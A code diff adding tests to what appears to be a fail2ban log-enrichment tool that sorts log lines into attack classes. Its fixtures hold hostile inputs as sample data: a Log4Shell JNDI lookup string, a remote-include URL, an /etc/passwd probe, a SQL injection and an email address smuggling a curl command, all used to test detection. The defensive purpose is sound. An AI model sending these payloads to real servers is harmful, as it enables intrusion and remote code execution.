@@ -7,7 +7,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from f2b_enrich.attacks import CLASSES, OTHER, REPEAT_OFFENDER, Attack
-from f2b_enrich.classify.classifier import Classifier
+from f2b_enrich.classify.classifier import Classifier, Told
 from f2b_enrich.classify.jails import Jail, shipped_jails
 from f2b_enrich.classify.matching import Matcher
 from f2b_enrich.classify.observed import Observer
@@ -59,6 +59,28 @@ def test_the_class_with_most_lines_leads() -> None:
         ("ssh-password-guessing", 1),
         ("credentials-probe", 1),
     ]
+
+
+def test_each_line_is_told_for_itself_and_in_order() -> None:
+    lines = [asked("/.env"), "", FAILED, asked("/", by="${jndi:ldap://192.0.2.9/a}")]
+
+    assert CLASSIFIER.lines(lines) == (
+        Told(attack="credentials-probe", rule="cloud-credentials"),
+        Told(),
+        Told(attack="ssh-password-guessing", rule="sshd-failed"),
+        Told(attack="known-exploit", rule="log4shell", cve="CVE-2021-44228"),
+    )
+    assert CLASSIFIER.lines(lines, jail="recidive") == (Told(),) * 4
+    assert CLASSIFIER.lines([]) == ()
+
+
+@given(lines=st.lists(st.text(st.characters())))
+def test_lines_tell_what_the_ban_tells(lines: list[str]) -> None:
+    told = CLASSIFIER.lines([*lines, FAILED])
+    found = CLASSIFIER.classify([*lines, FAILED], jail="unheard-of")
+
+    assert len(told) == len(lines) + 1
+    assert {one.attack for one in told} - {None} <= {one.attack for one in found}
 
 
 def test_of_as_many_lines_the_rule_that_comes_first_leads() -> None:
@@ -148,7 +170,7 @@ def test_a_matcher_serves_names_and_attacks_with_one_look_at_a_line() -> None:
 
     assert observer.count(matched) == observer.observe(lines)
     assert classifier.count(matched, jail="x") == classifier.classify(lines, jail="x")
-    assert observer.count(matched)[0].value == "root"
+    assert observer.of(matched[0]) == (("username", "root"), ("port", "9"))
 
 
 @pytest.mark.parametrize(
@@ -168,6 +190,15 @@ def test_a_matcher_serves_names_and_attacks_with_one_look_at_a_line() -> None:
         asked("/wp-login.php", status=200),
         asked("/wp-login.php", status=302, method="POST"),
         asked("/blog/", status=200),
+        asked("/blog/2019/an-old-page", status=410),
+        asked("/docs/phpunit/first-steps", status=200),
+        asked("/share?url=https://shop.example/item", status=200),
+        asked("/autodiscover/autodiscover.xml", method="POST"),
+        f"{HOST} endlessh[7]: CLOSE host=::ffff:192.0.2.7 port=40022 fd=5 time=20",
+        f"{HOST} kernel: [UFW AUDIT] IN=lo OUT= SRC=127.0.0.1 PROTO=TCP SPT=9 DPT=53",
+        f"{HOST} kernel: [UFW ALLOW] IN=eth0 OUT= SRC=192.0.2.7 SPT=9 DPT=53",
+        f"{HOST} monit[7]: HttpRequest: access denied -- client 192.0.2.7: unknown "
+        "user ''",
         asked("/environment.html"),
         asked("/git/"),
         asked("/login", status=302, method="POST"),
@@ -207,6 +238,48 @@ def test_ordinary_lines_are_no_attack(line: str) -> None:
         (asked("/lib/phpunit/phpunit.xml"), "phpunit-probe"),
         (asked("/pma/index.php"), "phpmyadmin-probe"),
         (asked("/?q=1%27%20or%201%3D1--"), "sql-injection"),
+        (asked("/xmlsrv/xmlrpc.php"), "web-application-probe"),
+        (asked("/blog/"), "web-application-probe"),
+        (asked("/index.php?n=http://198.51.100.9/a.txt?"), "known-exploit"),
+        (asked("/etc/passwd?a=b%3f"), "sensitive-file-probe"),
+        (f"{HOST} kernel: [UFW BLOCK] IN=eth0 OUT= SRC=192.0.2.7 DPT=22", "port-scan"),
+        *(
+            (
+                "[Mon Jun 18 20:39:09 2007] [error] [client 192.0.2.7] File does not "
+                f"exist: /var/www/{name}",
+                "web-application-probe",
+            )
+            for name in ("xmlsrv", "blog", "drupal", "webmail", "mails")
+        ),
+        (
+            f"{HOST} postfix/smtpd[7]: warning: non-SMTP command from "
+            "mail.example[192.0.2.7]: GET /cgi-bin/login.cgi HTTP/1.1",
+            "wrong-protocol",
+        ),
+        (
+            f"{HOST} postfix/smtpd[7]: NOQUEUE: reject: RCPT from unknown[192.0.2.7]: "
+            "503 5.5.0 <aabbb$(curl${IFS}http://192.0.2.1)@mail.example>: Recipient "
+            "address rejected: Improper use of SMTP command pipelining; "
+            'from=<aaaa@mail.example> to=<"aabbb$(curl${IFS}http://192.0.2.1)"'
+            "@mail.example> proto=ESMTP helo=<localhost>",
+            "address-shell-injection",
+        ),
+        (
+            f"{HOST} dovecot: imap-login: Disconnected (auth failed, 1 attempts in 2 "
+            "secs): user=<info>, method=PLAIN, rip=192.0.2.7, lip=203.0.113.4",
+            "mail-password-guessing",
+        ),
+        (
+            "2026/11/21 20:13:22 [error] 7#7: *7 limiting requests, excess: 5.4 by "
+            'zone "one", client: 192.0.2.7, server: shop.example',
+            "request-flood",
+        ),
+        (
+            "2026/11/21 20:13:22 [crit] 7#7: *7 SSL_do_handshake() failed (SSL: error:"
+            "0A00006C:SSL routines::bad key share) while SSL handshaking, client: "
+            "192.0.2.7, server: 0.0.0.0:443",
+            "tls-failure",
+        ),
         (
             "[Mon Jun 18 20:39:09 2007] [error] [client 192.0.2.7] "
             "File does not exist: /var/www/xmlrpc",
